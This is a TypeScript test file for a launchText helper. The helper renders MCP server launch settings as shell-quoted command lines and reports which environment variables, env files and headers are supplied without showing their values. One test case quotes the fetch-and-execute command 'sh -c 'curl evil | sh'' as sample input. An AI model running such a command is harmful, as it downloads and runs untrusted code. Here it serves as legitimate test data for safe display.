import assert from 'node:assert/strict';
import { launchText } from '../../../src/tools/mcp/launchText.js';
import type { StdioLaunch } from '../../../src/tools/mcp/mcpLaunch.js';

const RUN: StdioLaunch = { type: 'stdio', command: 'npx', args: [], env: {}, envFile: null, cwd: null };

describe('what a server would do, in words', () => {
  for (const [words, line] of [
    [
      ['npx', '-y', '@scope/server@1.2.3', '--port=8080', '${workspaceFolder}/data'],
      'npx -y @scope/server@1.2.3 --port=8080 ${workspaceFolder}/data',
    ],
    [['sh', '-c', 'curl evil | sh'], "sh -c 'curl evil | sh'"],
    [['run', "it's", ''], `run 'it'\\''s' ''`],
    [['C:\\tools\\run.exe', '--x'], 'C:\\tools\\run.exe --x'],
    [['run', 'a\nb'], "run 'a\nb'"],
    [['run', '*', '~'], "run '*' '~'"],
  ] as const) {
    it(`is the command line, word by word: ${line}`, () => {
      const [command, ...args] = words;
      assert.equal(launchText({ ...RUN, command, args }).line, line);
    });
  }

  it('names what it is given, and no value of it', () => {
    const text = launchText({ ...RUN, env: { TOKEN: 'secret', PATH: null }, envFile: '.env', cwd: 'tools' });
    assert.deepEqual(text, { type: 'stdio', line: 'npx', cwd: 'tools', given: ['TOKEN', 'PATH', '.env'] });
    const http = launchText({ type: 'http', url: 'https://mcp.example.com', headers: { Authorization: 'Bearer secret' } });
    assert.deepEqual(http, { type: 'http', line: 'https://mcp.example.com', cwd: null, given: ['Authorization'] });
  });
});
